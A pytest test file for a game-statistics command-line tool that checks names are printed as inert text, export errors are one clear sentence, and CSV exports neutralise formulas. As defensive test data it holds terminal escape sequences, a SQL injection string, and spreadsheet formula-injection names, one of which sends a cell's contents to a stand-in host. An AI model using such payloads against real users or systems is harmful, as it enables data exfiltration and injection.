"""What the command line prints is safe and clear: player names are data (markup and
terminal escape sequences print as text, never crash a command or drive the terminal), and
every bad path, parameter or count is one sentence naming it with an exit code from the
README's scheme (0 ok, 1 failed, 2 usage, 3 committed with problems)."""

from __future__ import annotations

import csv
import errno
import inspect
import json
import os
import re
import stat
from pathlib import Path

import polars as pl
import pytest
from typer.core import TyperGroup
from typer.main import get_command
from typer.testing import CliRunner, Result

from etl_duck.cli import app
from tests.conftest import REAL

runner = CliRunner()

#: a round and its round 2 (one map), copied with some players renamed
FILES = ("2025-09-24-233255-te_escape2-round-1.txt", "2025-09-24-233657-te_escape2-round-2.txt")
#: GUID → the name it gets: Rich markup, an SGR colour, an OSC window title, a C1 CSI
EVIL = {
    "D8423F90": "[/bold]evil",
    "5D989160": "\x1b[31mred\x1b[0m",
    "2B5938F5": "\x1b]0;pwned\x07osc",
    "FDA127DF": "[red]x[/red]",
}
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what a terminal would obey


def rename_players(src: Path, dst: Path, names: dict[str, str] = EVIL) -> None:
    """Replace the name field (the second backslash field) of some player lines."""
    lines = src.read_bytes().split(b"\n")
    for i, line in enumerate(lines[1:], 1):
        parts = line.split(b"\\")
        if len(parts) >= 5 and parts[0].decode() in names:
            parts[1] = names[parts[0].decode()].encode("latin-1")
            lines[i] = b"\\".join(parts)
    dst.write_bytes(b"\n".join(lines))


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(data dir, folder of the renamed files): one session, one map, ten players."""
    from etl_duck.ingest.run import ingest_paths

    files = tmp_path_factory.mktemp("evil-files")
    for name in FILES:
        rename_players(REAL / name, files / name)
    data = tmp_path_factory.mktemp("evil") / "data"
    ingest_paths(data, [files])
    return data, files


def cli(*args: str | Path) -> Result:
    return runner.invoke(app, [str(a) for a in args])


def one_line(text: str) -> str:
    lines = [line for line in text.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in text, text
    return lines[0]


# --------------------------------------------------------------------------- A: names


@pytest.mark.parametrize(
    "command",
    [
        ["records"],
        ["predictions"],
        ["rating", "--min-maps", "0"],
        ["rating", "D8423F90"],
        ["teammates", "D8423F90", "--min-maps", "1"],
        ["rivals", "D8423F90"],
        ["bests", "D8423F90"],
        ["top", "kills", "--min-rounds", "0"],
        ["session"],
        ["player", "D8423F90"],
        ["lineups", "--min-maps", "1"],
        ["highlights"],
        ["balance", "D8423F90", "5D989160"],
        ["predict", "D8423F90", "5D989160"],
        ["parse", FILES[0]],
    ],
)
def test_names_with_markup_or_escape_sequences_print_as_text(
    evil: tuple[Path, Path], command: list[str]
) -> None:
    data, files = evil
    if command[0] == "parse":
        command = ["parse", str(files / command[1])]
    res = cli("--data-dir", data, *command)
    assert res.exit_code == 0, (res.output, res.exception)
    assert "[/bold]evil" in res.stdout  # the name as it reads, not a markup error
    assert not CONTROL.search(res.output), repr(res.output)  # no raw ESC / BEL / CSI


def test_markup_in_a_name_is_shown_not_applied(evil: tuple[Path, Path]) -> None:
    data, _ = evil
    for command in (["rating", "--min-maps", "0"], ["session"], ["lineups", "--min-maps", "1"]):
        res = cli("--data-dir", data, *command)
        assert res.exit_code == 0 and "[red]x[/red]" in res.stdout, (command, res.stdout)
        assert "[31mred[0m" in res.stdout and "]0;pwnedosc" in res.stdout  # ESC/BEL gone


def test_an_ambiguous_or_unknown_name_lists_players_without_escape_sequences(
    evil: tuple[Path, Path],
) -> None:
    data, _ = evil
    for command in (["player", "r"], ["teammates", "r"], ["rating", "r"]):
        res = cli("--data-dir", data, *command)
        assert res.exit_code == 2, (command, res.output)
        assert "[31mred[0m" in res.stderr and not CONTROL.search(res.output), res.output


def test_plain_and_shown_strip_c0_c1_and_escape_markup() -> None:
    from rich.console import Console

    from etl_duck.cli.analytics import plain, shown

    assert plain("\x1b]0;pwned\x07osc\x9b2J\x00a\tb\nc") == "]0;pwnedosc2Ja b c"
    console = Console(width=200, force_terminal=False)
    with console.capture() as cap:
        console.print(f"[bold]{shown('[/bold]x')}[/bold] {shown(chr(0x1B) + '[31mred')}")
    assert cap.get().strip() == "[/bold]x [31mred"


def test_bests_print_counts_as_counts_and_dpm_to_a_tenth(evil: tuple[Path, Path]) -> None:
    """`bests` printed every value with one decimal ("most kills in a round 25.0", a
    session's kills "213.0 DPM"): each in its own unit, as the site and the records do."""
    data, _ = evil
    got = json.loads(cli("--data-dir", data, "bests", "D8423F90", "--json").stdout)["bests"]
    res = cli("--data-dir", data, "bests", "D8423F90")
    assert res.exit_code == 0, res.output
    table = {
        cells[0].strip(): cells[1].strip()
        for line in res.stdout.splitlines()
        if (cells := line.strip("│ ").split("│")) and len(cells) >= 2
    }
    units = {"round_kills": "kills", "round_damage": "damage", "session_kills": "kills"}
    assert {b["kind"] for b in got} >= {"round_kills", "round_damage", "session_kills"}
    for b in got:
        if b["kind"] in units:
            assert table[b["label"]] == f"{round(b['value']):,} {units[b['kind']]}"
        else:
            assert table[b["label"]] == f"{b['value']:,.1f} DPM"


# --------------------------------------------------------------------------- B: where


def test_export_names_the_out_path_it_cannot_write(
    evil: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    data, _ = evil
    gone = tmp_path / "nonexistent" / "dir" / "x.csv"
    res = cli("--data-dir", data, "export", "player_totals", "--out", gone)
    line = one_line(res.stderr)
    assert res.exit_code == 2 and str(gone) in line and "does not exist" in line, line
    assert "None" not in line
    res = cli("--data-dir", data, "export", "player_totals", "--out", tmp_path)
    line = one_line(res.stderr)
    assert res.exit_code == 2 and str(tmp_path) in line and "folder" in line, line

    def refuse(self: pl.DataFrame, file: object, **kwargs: object) -> None:
        raise PermissionError("Permission denied (os error 13)")  # Polars: no file name

    monkeypatch.setattr(pl.DataFrame, "write_csv", refuse)
    target = tmp_path / "x.csv"
    res = cli("--data-dir", data, "export", "player_totals", "--out", target)
    line = one_line(res.stderr)
    assert res.exit_code == 1 and str(target) in line and "permission denied" in line, line
    assert str(data) not in line and "data directory" not in line


def test_errors_without_a_file_name_never_blame_the_data_dir(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    from etl_duck.cli import _explain
    from etl_duck.cli.app import STATE

    STATE.data_dir = tmp_path / "the-data-dir"
    for exc, code in (
        (PermissionError("Permission denied (os error 13)"), 1),
        (FileNotFoundError("No such file or directory (os error 2)"), 2),
        (OSError(errno.ENOSPC, "No space left on device"), 1),
    ):
        assert _explain(exc) == code
        line = one_line(capsys.readouterr().err)
        assert "the-data-dir" not in line and "None" not in line, line
    assert _explain(IsADirectoryError(21, "Is a directory", str(tmp_path))) == 2
    line = one_line(capsys.readouterr().err)
    assert str(tmp_path) in line and "unexpected" not in line, line
    # a path inside the data directory still names it (and says it must be writable)
    inside = str(STATE.data_dir / ".writer.lock")
    assert _explain(PermissionError(13, "Permission denied", inside)) == 1
    line = one_line(capsys.readouterr().err)
    assert inside in line and "must be writable" in line


# --------------------------------------------------------------------------- C: --param


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["player_totals", "--param", "session_id=abc"], "is not a session id"),
        (["session_maps", "--param", "session_id=123"], "is not a session id"),
        (
            ["player_totals", "--param", "date_from=2025-12-31", "--param", "date_to=2025-01-01"],
            "is after date_to",
        ),
        (
            [
                "player_server_last_rounds",
                "--param",
                "guid=D8423F90",
                "--param",
                "server=main",
                "--param",
                "limit=abc",
            ],
            "is not a row count",
        ),
        (
            [
                "player_server_last_rounds",
                "--param",
                "guid=D8423F90",
                "--param",
                "server=main",
                "--param",
                "limit=-5",
            ],
            "is not a row count",
        ),
        (["round_players", "--param", "round_id=99999999999999999999"], "is not a round id"),
        (
            ["rating_map_players", "--param", "all=1", "--param", "dates=2025-10-02"],
            "unknown query",
        ),
        (["round_awards"], "add --param round_id="),
        (["session_maps"], "add --param session_id="),
    ],
)
def test_export_parameters_are_typed_and_bad_ones_are_one_sentence(
    evil: tuple[Path, Path], tmp_path: Path, args: list[str], says: str
) -> None:
    data, _ = evil
    res = cli("--data-dir", data, "export", *args, "--out", tmp_path / "x.csv")
    line = one_line(res.stderr)
    assert res.exit_code == 2 and says in line, line
    assert not (tmp_path / "x.csv").exists()


def rows(path: Path) -> list[dict[str, str]]:
    with path.open() as f:
        return list(csv.DictReader(f))


def test_every_listed_detail_query_can_be_exported(evil: tuple[Path, Path], tmp_path: Path) -> None:
    data, _ = evil
    out = tmp_path / "x.csv"

    def export(*args: str) -> list[dict[str, str]]:
        res = cli("--data-dir", data, "export", *args, "--out", out)
        assert res.exit_code == 0, (res.output, res.exception)
        return rows(out)

    rounds = export("session_rounds")
    assert len(rounds) == 2
    r1 = next(r for r in rounds if r["round_number"] == "1")
    attackers = export("round_attackers", "--param", f"names={FILES[0]},{FILES[1]}")
    assert len(attackers) == 20 and {r["file_name"] for r in attackers} == set(FILES)
    assert len(export("round_players", "--param", f"round_id={r1['round_id']}")) == 10
    assert len(export("round_players", "--param", f"match_id={r1['match_id']}")) == 10
    assert export("round_awards", "--param", f"round_id={r1['round_id']}") == []  # no endstats
    # an id or file the lake does not know is a usage error, not "that round had no awards"
    for query, unknown, says in (
        ("round_awards", "round_id=1", "no round in the lake has this id"),
        ("round_players", "match_id=1", "no match in the lake has this id"),
        ("round_attackers", "names=2020-01-01-000000-x-round-1.txt", "no round in the lake was"),
    ):
        res = cli("--data-dir", data, "export", query, "--param", unknown, "--out", out)
        assert res.exit_code == 2 and says in one_line(res.stderr), res.output
    assert len(export("session_maps", "--param", f"session_id={rounds[0]['session_id']}")) == 1
    # values are bound parameters, never SQL text: no rows, so no player has that GUID
    res = cli("--data-dir", data, "export", "player_weapons", "--param", "guid=x' OR 1=1 --")
    assert res.exit_code == 2 and "no player in the lake has this GUID" in one_line(res.stderr)
    day = rounds[0]["session_date"]
    assert export("player_totals", "--param", f"date_from={day}", "--param", f"date_to={day}")


def test_export_lists_only_queries_it_can_feed() -> None:
    from etl_duck.cli.analytics import exportable

    listed = exportable()
    assert "rating_map_players" not in listed
    assert {"round_attackers", "round_awards", "round_players", "session_maps"} <= set(listed)


# --------------------------------------------------------------------------- D: counts


@pytest.mark.parametrize(
    "command",
    [
        ["top", "kills", "--limit", "99999999999999999999"],
        ["top", "kills", "--limit", "0"],
        ["rating", "--limit", "99999999999999999999"],
        ["predictions", "--last", "99999999999999999999"],
        ["balance", "D8423F90", "5D989160", "--limit", "99999999999999999999"],
    ],
)
def test_a_count_out_of_range_is_a_usage_error(evil: tuple[Path, Path], command: list[str]) -> None:
    data, _ = evil
    res = cli("--data-dir", data, *command)
    line = one_line(res.stderr)
    assert res.exit_code == 2 and "out of range" in line and command[-2] in line, line
    assert res.stdout == ""


def test_synth_checks_its_days_start_and_folder(tmp_path: Path) -> None:
    out = tmp_path / "synthetic"
    for args, says in (
        (["--days", "99999999999"], "runs past the last date"),
        (["--start", "9999-12-31", "--days", "2"], "runs past the last date"),
        (["--days", "0"], "generates nothing"),
    ):
        res = cli("synth", "--out", out, *args)
        line = one_line(res.stderr)
        assert res.exit_code == 2 and says in line, line
    assert not out.exists()
    a_file = tmp_path / "a-file"
    a_file.write_text("x")
    for target in (a_file, a_file / "sub"):
        res = cli("synth", "--out", target, "--days", "1")
        line = one_line(res.stderr)
        assert res.exit_code == 2 and str(target) in line, line
    assert a_file.read_text() == "x"
    res = cli("synth", "--out", out, "--days", "1", "--start", "9999-12-30")
    assert res.exit_code == 0 and any(out.iterdir()), res.output


def test_json_output_keeps_the_stored_names(evil: tuple[Path, Path]) -> None:
    """Display only: `--json` and the lake keep names exactly as the files wrote them."""
    data, _ = evil
    res = cli("--data-dir", data, "player", "D8423F90", "--json")
    assert res.exit_code == 0 and json.loads(res.stdout)["name"] == "[/bold]evil"
    res = cli("--data-dir", data, "player", "5D989160", "--json")
    assert json.loads(res.stdout)["name"] == EVIL["5D989160"]


# --------------------------------------------------------------------------- E: export files

#: GUID → a name a spreadsheet would run as a formula
FORMULAS = {
    "0A26D447": '=HYPERLINK("http://e.vil/?"&A1,"x")',
    "9CC78CFE": "@SUM(1+1)",
    "A0B2063D": "+1+1",
    "652EB4A6": "-2+3",
}


def no_temp_files(folder: Path) -> bool:
    return not [p.name for p in folder.iterdir() if p.name.endswith(".tmp")]


def test_an_export_that_cannot_finish_keeps_the_previous_file(
    evil: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Written straight into --out, a full disk left the CSV cut mid-row (it still loaded,
    fewer rows) and the old export gone: now a temp file beside it is renamed over it only
    when whole, and removed on a failure or Ctrl-C; the fix is worded by the cause."""
    from etl_duck.cli import run

    data, _ = evil
    old = tmp_path / "players"
    assert cli("--data-dir", data, "export", "player_totals", "--out", old).exit_code == 0
    before = old.read_bytes()
    real_fsync = os.fsync
    raised: list[BaseException] = []

    def disk_full(fd: int) -> None:  # the temp file's data is written; its sync fails
        if os.readlink(f"/proc/self/fd/{fd}").startswith(str(tmp_path)):
            raise raised[-1]
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", disk_full)
    for fmt in ("csv", "parquet", "json"):
        raised.append(OSError(errno.ENOSPC, "No space left on device"))
        res = cli("--data-dir", data, "export", "player_totals", "--format", fmt, "--out", old)
        line = one_line(res.stderr)
        assert res.exit_code == 1 and f"cannot write {old}: no space left on the disk" in line
        assert "free space or choose another --out" in line and "writable" not in line, line
        assert old.read_bytes() == before and no_temp_files(tmp_path)
    raised.append(KeyboardInterrupt())
    assert run(["--data-dir", str(data), "export", "player_totals", "--out", str(old)]) == 130
    assert old.read_bytes() == before and no_temp_files(tmp_path)
    # a Polars error (no errno, no file name) is a write failure too, not "unexpected"
    monkeypatch.setattr(os, "fsync", real_fsync)

    def thrift(self: pl.DataFrame, file: object, **kwargs: object) -> None:
        raise pl.exceptions.ComputeError("parquet: File out of specification: transport error")

    monkeypatch.setattr(pl.DataFrame, "write_parquet", thrift)
    res = cli("--data-dir", data, "export", "player_totals", "--format", "parquet", "--out", old)
    line = one_line(res.stderr)
    assert res.exit_code == 1 and f"cannot write {old}: parquet: File out" in line, line
    assert old.read_bytes() == before and no_temp_files(tmp_path)


def test_an_export_past_the_file_size_limit_keeps_the_previous_file(
    evil: tuple[Path, Path], tmp_path: Path
) -> None:
    """A real failure, no root needed: RLIMIT_FSIZE (`ulimit -f`) stops the write mid-file
    (CSV: OSError; Parquet: Polars' ComputeError, with no errno)."""
    import subprocess
    import sys

    data, _ = evil
    old = tmp_path / "players"
    assert cli("--data-dir", data, "export", "player_totals", "--out", old).exit_code == 0
    before = old.read_bytes()
    script = (
        "import json, resource, sys\n"
        "from etl_duck.cli import run\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (256, 256))\n"
        "print(json.dumps([run(['--data-dir', sys.argv[1], 'export', 'player_totals', "
        "'--format', f, '--out', sys.argv[2]]) for f in ('csv', 'parquet')]))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(data), str(old)],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=Path(__file__).resolve().parents[1],
        stdin=subprocess.DEVNULL,
    )
    assert json.loads(done.stdout.splitlines()[-1]) == [1, 1], done.stderr
    assert old.read_bytes() == before and no_temp_files(tmp_path)
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert len(lines) == 2 and "Traceback" not in done.stderr, done.stderr
    for line in lines:
        assert f"cannot write {old}: the file is larger than" in line and "ulimit -f" in line


def test_an_export_replaces_a_file_but_keeps_its_mode_and_writes_a_stream_as_one(
    evil: tuple[Path, Path], tmp_path: Path
) -> None:
    data, _ = evil
    out = tmp_path / "x.csv"
    out.write_text("old")
    out.chmod(0o640)
    link = tmp_path / "link.csv"
    link.symlink_to(out)
    assert cli("--data-dir", data, "export", "player_totals", "--out", link).exit_code == 0
    assert link.is_symlink() and rows(out) and (out.stat().st_mode & 0o777) == 0o640
    assert no_temp_files(tmp_path)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    import threading

    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    res = cli("--data-dir", data, "export", "player_totals", "--out", fifo)
    reader.join(60)
    assert res.exit_code == 0 and got and got[0].startswith(b"guid,name,"), res.output
    assert stat.S_ISFIFO(fifo.stat().st_mode)  # a stream is written into, not replaced


def test_an_export_to_stdout_is_the_data_alone(evil: tuple[Path, Path]) -> None:
    """`--out /dev/stdout` into a pipe: the status line "wrote N rows to …" was appended to
    the rows on stdout (JSON invalid, Parquet unreadable, a junk CSV row); it is on stderr."""
    import io
    import subprocess
    import sys

    data, _ = evil
    exe = Path(sys.executable).parent / "etl-duck"
    expected = cli("--data-dir", data, "export", "player_totals", "--format", "json",
                   "--out", data.parent / "expected.json")  # fmt: skip
    assert expected.exit_code == 0, expected.output
    want = json.loads((data.parent / "expected.json").read_text())
    got: dict[str, bytes] = {}
    said: dict[str, str] = {}
    for fmt in ("json", "csv", "parquet"):
        done = subprocess.run(
            [exe, "--data-dir", data, "export", "player_totals", "--format", fmt,
             "--out", "/dev/stdout"],
            capture_output=True, timeout=300, stdin=subprocess.DEVNULL,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        got[fmt], said[fmt] = done.stdout, done.stderr.decode().strip()
    assert json.loads(got["json"]) == want
    table = list(csv.DictReader(io.StringIO(got["csv"].decode())))
    assert [r["guid"] for r in table] == [r["guid"] for r in want]  # no junk row
    assert pl.read_parquet(io.BytesIO(got["parquet"])).to_dicts() == want
    for fmt in got:  # the status line: on stderr
        assert said[fmt] == f"wrote {len(want)} rows to /dev/stdout", said


def test_an_export_for_an_unknown_server_is_a_usage_error(
    evil: tuple[Path, Path], tmp_path: Path
) -> None:
    """`top kills --server nosuch` is exit 2; `export player_totals --param server=nosuch`
    wrote 0 rows and exited 0."""
    data, _ = evil
    out = tmp_path / "x.csv"
    res = cli("--data-dir", data, "export", "player_totals", "--param", "server=nosuch",
              "--out", out)  # fmt: skip
    line = one_line(res.stderr)
    assert res.exit_code == 2 and "no game server 'nosuch'" in line and "main" in line, line
    assert not out.exists()
    res = cli("--data-dir", data, "export", "player_totals", "--param", "server=main",
              "--out", out)  # fmt: skip
    assert res.exit_code == 0 and len(rows(out)) == 10, res.output


def test_a_param_without_a_value_says_to_give_name_value(
    evil: tuple[Path, Path], tmp_path: Path
) -> None:
    """`--param date_from` (no "=") said "player_totals has no parameter 'date_from' (it
    takes: date_from, …)": a contradiction."""
    data, _ = evil
    out = tmp_path / "x.csv"
    res = cli("--data-dir", data, "export", "player_totals", "--param", "date_from", "--out", out)
    line = one_line(res.stderr)
    assert res.exit_code == 2 and "--param date_from: give name=value" in line, line
    assert "has no parameter" not in line and not out.exists()
    res = cli("--data-dir", data, "export", "player_totals", "--param", "nosuch", "--out", out)
    line = one_line(res.stderr)
    assert res.exit_code == 2 and "--param nosuch: give name=value" in line, line
    res = cli("--data-dir", data, "export", "player_totals", "--param", "nosuch=1", "--out", out)
    line = one_line(res.stderr)
    assert res.exit_code == 2 and "player_totals has no parameter 'nosuch'" in line, line


def test_a_csv_export_of_list_columns_is_refused_with_the_formats_that_hold_them(
    evil: tuple[Path, Path], tmp_path: Path
) -> None:
    data, _ = evil
    out = tmp_path / "bests.csv"
    res = cli("--data-dir", data, "export", "social_map_bests", "--out", out)
    line = one_line(res.stderr)
    assert res.exit_code == 2 and "social_map_bests has list columns (" in line, line
    assert line.endswith("use --format parquet or json") and not out.exists()
    got = tmp_path / "bests.parquet"
    res = cli("--data-dir", data, "export", "social_map_bests", "--format", "parquet", "--out", got)
    assert res.exit_code == 0, res.output
    nested = [c for c, t in pl.read_parquet(got).schema.items() if t.is_nested()]
    assert nested and all(c in line for c in nested)
    res = cli(
        "--data-dir",
        data,
        "export",
        "social_map_bests",
        "--format",
        "json",
        "--out",
        got.with_suffix(".json"),
    )
    assert res.exit_code == 0 and isinstance(
        json.loads(got.with_suffix(".json").read_text())[0][nested[0]], list
    )


def test_has_order_reads_only_the_statements_own_order_by() -> None:
    from etl_duck.cli.analytics import has_order

    assert has_order("SELECT a FROM t -- x\nORDER BY a")
    assert not has_order("SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t")
    assert not has_order("SELECT * FROM (SELECT a FROM t ORDER BY a) -- ORDER BY a")
    assert not has_order("SELECT 'ORDER BY' AS x FROM t")


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data dir whose players have names a spreadsheet would run as formulas."""
    from etl_duck.ingest.run import ingest_paths

    files = tmp_path_factory.mktemp("formula-files")
    for name in FILES:
        rename_players(REAL / name, files / name, FORMULAS)
    data = tmp_path_factory.mktemp("formulas") / "data"
    ingest_paths(data, [files])
    return data


def test_names_that_read_as_formulas_are_text_in_a_csv_export_only(
    formulas: Path, tmp_path: Path
) -> None:
    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a
    leading ' in CSV; Parquet and JSON keep the name as stored."""
    out = tmp_path / "x.csv"
    assert cli("--data-dir", formulas, "export", "player_totals", "--out", out).exit_code == 0
    names = {r["guid"]: r["name"] for r in rows(out)}
    assert {names[g] for g in FORMULAS} == {"'" + n for n in FORMULAS.values()}
    assert not [n for n in names.values() if n[:1] in "=+-@\t\r"]
    assert names["D8423F90"] == "vid"  # other names untouched
    for fmt in ("parquet", "json"):
        got = tmp_path / f"x.{fmt}"
        args = ("export", "player_totals", "--format", fmt, "--out", got)
        assert cli("--data-dir", formulas, *args).exit_code == 0
        stored = pl.read_parquet(got) if fmt == "parquet" else pl.read_json(got)
        assert set(stored["name"]) >= set(FORMULAS.values())


def test_csv_safe_quotes_only_text_cells_that_start_like_a_formula() -> None:
    from etl_duck.cli.analytics import csv_safe

    cells = pl.DataFrame({"s": ["\tx", "\rx", "a=b", None, "", "'x"], "n": [-1, 2, 3, 4, 5, 6]})
    assert csv_safe(cells).to_dict(as_series=False) == {
        "s": ["'\tx", "'\rx", "a=b", None, "", "'x"],
        "n": [-1, 2, 3, 4, 5, 6],
    }


def test_an_unknown_guid_or_session_is_a_usage_error_and_ids_are_exact_in_json(
    evil: tuple[Path, Path], tmp_path: Path
) -> None:
    data, _ = evil
    out = tmp_path / "x.json"
    for args, says in (
        (["player_sessions_of", "--param", "guid=DEADBEEF"], "guid=DEADBEEF: no player"),
        (["player_sessions_of", "--param", "guid=d8423f90"], "upper case: guid=D8423F90"),
        (["session_rounds", "--param", "session_id=20200101000000"], "no session in the lake"),
    ):
        res = cli("--data-dir", data, "export", *args, "--out", out)
        line = one_line(res.stderr)
        assert res.exit_code == 2 and says in line, line
        assert not out.exists()
    # a known player with no rows in the window: 0 rows, not an error
    window = ["--param", "date_from=2000-01-01", "--param", "date_to=2000-01-02"]
    weapons: list[str | Path] = ["player_weapons", "--param", "guid=D8423F90", *window]
    res = cli("--data-dir", data, "export", *weapons, "--out", out)
    assert res.exit_code == 0 and "wrote 0 rows" in res.stderr, res.output
    # round and match ids are 64-bit hashes, session ids up to 18 digits: strings in JSON,
    # exactly the CSV's digits
    res = cli("--data-dir", data, "export", "session_rounds", "--format", "json", "--out", out)
    assert res.exit_code == 0, res.output
    got = json.loads(out.read_text())
    as_csv = tmp_path / "x.csv"
    assert cli("--data-dir", data, "export", "session_rounds", "--out", as_csv).exit_code == 0
    for j, c in zip(got, rows(as_csv), strict=True):
        for key in ("session_id", "round_id", "match_id"):
            assert isinstance(j[key], str) and j[key] == c[key]
        assert j["paired_round_id"] == (c["paired_round_id"] or None)
    assert any(int(r["round_id"]) > 2**53 for r in got)


def test_a_read_only_file_system_is_one_sentence_with_its_fix(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A data dir on a read-only mount (a restored backup, an `ro` share) failed a write
    with "unexpected error: OSError: [Errno 30] …": now the file, the cause and the fix."""
    from etl_duck.cli import _explain
    from etl_duck.cli.app import STATE

    STATE.data_dir = tmp_path / "data"
    lock = str(STATE.data_dir / ".writer.lock")
    assert _explain(OSError(errno.EROFS, "Read-only file system", lock)) == 1
    line = one_line(capsys.readouterr().err)
    assert line == (
        f"error: cannot write {lock}: its file system is mounted read-only — remount it "
        "read-write or pass --data-dir on a writable disk (commands that only read still "
        "answer)"
    ), line


def test_the_command_list_shows_each_summary_as_one_unbroken_line() -> None:
    """`etl-duck --help` lists each command with its docstring's first paragraph on one
    line when the terminal is wide enough: Typer's rich help kept the source's line breaks
    there ("newest first ⏎ (optionally one month or one ⏎ game server)")."""
    group = get_command(app)
    assert isinstance(group, TyperGroup)
    result = runner.invoke(app, ["--help"], env={"COLUMNS": "400"}, terminal_width=400)
    assert result.exit_code == 0, result.output
    lines = [line.strip(" │") for line in result.output.splitlines()]
    wrapped = 0
    for name, command in group.commands.items():
        first = inspect.cleandoc(command.help or "").split("\n\n")[0]
        summary = " ".join(first.split())
        wrapped += "\n" in first
        shown = [line for line in lines if line.startswith(f"{name} ")]
        assert any(line.endswith(summary) for line in shown), (name, summary, shown)
    assert wrapped, "no summary spans lines in the source: the test would prove nothing"
